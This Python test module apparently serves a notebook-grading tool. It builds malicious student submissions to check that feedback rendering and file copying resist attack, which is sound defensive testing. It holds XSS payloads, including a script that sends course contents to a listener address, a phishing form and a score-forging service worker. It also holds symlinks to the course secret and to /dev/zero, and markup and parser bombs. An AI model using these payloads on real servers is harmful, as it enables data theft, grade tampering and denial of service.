"""Submissions that attack whoever looks at the feedback: in a notebook's text, and beside it.

Each function lays one down, as `files` does. Nothing of them is run.
"""

from __future__ import annotations

import base64
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.attacks.files import ME, RIGHT, hand_in_notebook, notebook

__all__ = ["COMPANIONS", "PAGES"]

Attack = Callable[[Path, Path], object]
PAGES: dict[str, Attack] = {}
COMPANIONS: dict[str, Attack] = {}
LISTENER = "http://127.0.0.1:47001"
PAGE = f"<script>fetch('/api/contents').then(r => fetch('{LISTENER}', {{body: r}}))</script>"


def _text(name: str, tries: str, source: str, **attachments: dict[str, str]) -> None:
    """A cell of Markdown."""

    def build(submitted: Path, course: Path) -> None:
        made = notebook(RIGHT)
        cell: dict[str, Any] = {"cell_type": "markdown", "id": "text", "metadata": {}}
        made["cells"].append({**cell, "source": source, "attachments": attachments})
        hand_in_notebook(submitted, made)

    build.__doc__ = tries
    PAGES[name] = build


_text("script", "A script that reads the course and sends it away.", PAGE)
_text("handler", "A picture that is none runs what handles that.", '<img src=x onerror="alert(1)">')
_text("fold", "A fold that is opened runs something.", '<details open ontoggle="alert(1)">x')
_text(
    "picture_of_a_stranger", "A picture tells a stranger who looks, and when.", f"![]({LISTENER})"
)
_text(
    "picture_that_logs_out",
    "A picture is the address that logs the teacher out.",
    "<img src=/logout>",
)
_text("link_beside", "A link to a page that was handed in too.", "[the figure](evil.html)")
_text("link_to_a_script", "A link that is a script.", "[the figure](<java&#10;script:alert(1)>)")
_text("link_to_the_server", "A link that stops the teacher's server.", "[next](/api/shutdown)")
_text("page_of_data", "A picture and a link that are pages.", "<a href='data:text/html,x'>x</a>")
_text("frame", "A page within the page, of its own origin.", "<iframe src='evil.html'></iframe>")
_text("frame_of_text", "A page within the page, from an attribute.", "<iframe srcdoc='<script>'>")
_text(
    "form",
    "A form asks for the password again.",
    f"<form action='{LISTENER}'><input name=p></form>",
)
_text(
    "refresh", "The page goes elsewhere.", f"<meta http-equiv=refresh content='0;url={LISTENER}'>"
)
_text("base", "All addresses of the page lead elsewhere.", f"<base href='{LISTENER}/'>")
_text(
    "style_sheet",
    "Styles fetch something for each letter of a name.",
    f"<style>@import '{LISTENER}'</style>",
)
_text(
    "cover",
    "A box over the page says what the score is.",
    "<p style='position:fixed;inset:0'>100%</p>",
)
_text(
    "vectors",
    "A drawing with a script in it.",
    "<svg onload='alert(1)'><script>alert(1)</script></svg>",
)
_text(
    "attachment_of_vectors",
    "An attached drawing.",
    "![](attachment:x.svg)",
    **{"x.svg": {"image/svg+xml": "PHN2Zy8+"}},
)
_text(
    "formula_that_is_none",
    "Markup that becomes a tag when it is read again.",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
)
_text(
    "policy_of_its_own",
    "The page is told that everything is allowed.",
    "<meta http-equiv=Content-Security-Policy content='img-src *'>",
)
_text("spaces", "A letter, a million spaces, a letter.", "a" + " " * 1_000_000 + "b")
_text("bold_without_end", "A hundred thousand tags that are not closed.", "<b>" * 100_000)
_text("divisions_without_end", "Boxes in boxes.", "x " + "<div>" * 100_000)
_text("tables_in_bold", "Tables in which nothing is a cell.", "x " + "<table><b>" * 50_000)
_text("environments_without_end", "Formulas that begin and do not end.", r"\begin{a}" * 100_000)
_text("formulas_without_end", "The same with brackets.", r"\\(" * 50_000)
_text("brackets", "Links that begin and do not end.", "[" * 50_000)
_text(
    "picture_again_and_again",
    "A small notebook, and a page of dozens of megabytes.",
    "![](attachment:x.png) " * 500,
    **{"x.png": {"image/png": base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40_000)).decode()}},
)  # fmt: skip


def _companion(build: Callable[[Path, Path], object]) -> Callable[[Path, Path], object]:
    """What lies beside a right notebook."""

    def hand_in(submitted: Path, course: Path) -> None:
        hand_in_notebook(submitted, notebook(RIGHT))
        build(submitted / ME / "basics", course)

    hand_in.__doc__ = build.__doc__
    COMPANIONS[build.__name__] = hand_in
    return build


@_companion
def page(folder: Path, course: Path) -> None:
    """A page, which the teacher's server would serve as its own."""
    (folder / "evil.html").write_text(PAGE)


@_companion
def page_of_the_course(folder: Path, course: Path) -> None:
    """A page among the instructor's own files."""
    (folder / "public").mkdir()
    (folder / "public" / "index.html").write_text(PAGE)


@_companion
def drawing(folder: Path, course: Path) -> None:
    """A drawing with a script in it."""
    (folder / "figure.svg").write_text(
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    )


@_companion
def program_for_browsers(folder: Path, course: Path) -> None:
    """A program that a page of its own origin may leave in the browser for good."""
    (folder / "worker.js").write_text("onfetch = event => event.respondWith(new Response('100'))")


@_companion
def folder_as_page(folder: Path, course: Path) -> None:
    """A folder where the feedback is going to be written."""
    (folder / "basics.html").mkdir()
    (folder / "basics.html" / "x.html").write_text(PAGE)


@_companion
def sparse_file(folder: Path, course: Path) -> None:
    """A file that takes no room before it is copied."""
    with (folder / "data.bin").open("wb") as file:
        file.truncate(64 << 20)


@_companion
def many_files(folder: Path, course: Path) -> None:
    """Three thousand files, each looked for among all the others before it is copied."""
    for number in range(3_000):
        (folder / f"{number}.txt").touch()


@_companion
def deep_folders(folder: Path, course: Path) -> None:
    """Folders in folders, down to a page."""
    deep = folder.joinpath(*["d"] * 100)
    deep.mkdir(parents=True)
    (deep / "evil.html").write_text(PAGE)


@_companion
def link_to_the_secret(folder: Path, course: Path) -> None:
    """A link to the course's secret, of which a copy would be made."""
    (folder / "notes.txt").symlink_to(course / "secret.txt")


@_companion
def link_to_a_device(folder: Path, course: Path) -> None:
    """A link to what has no end."""
    (folder / "data.bin").symlink_to("/dev/zero")


@_companion
def pipe(folder: Path, course: Path) -> None:
    """A pipe into which nobody writes."""
    os.mkfifo(folder / "data.csv")


@_companion
def time_stamp_that_is_a_page(folder: Path, course: Path) -> None:
    """A time stamp that is no time."""
    (folder / "timestamp.txt").write_text(PAGE)


@_companion
def time_stamp_without_end(folder: Path, course: Path) -> None:
    """A time stamp that is a link to what has no end."""
    (folder / "timestamp.txt").symlink_to("/dev/zero")


@_companion
def settings_of_the_server(folder: Path, course: Path) -> None:
    """A file from which some servers take what they allow."""
    (folder / ".htaccess").write_text("Options +ExecCGI\n")


@_companion
def name_that_is_markup(folder: Path, course: Path) -> None:
    """A name that runs where a folder is listed."""
    (folder / "<img src=x onerror=alert(1)>.txt").touch()


@_companion
def name_that_is_no_text(folder: Path, course: Path) -> None:
    """A name that is not UTF-8."""
    (folder / os.fsdecode(b"\xff.html")).write_text(PAGE)
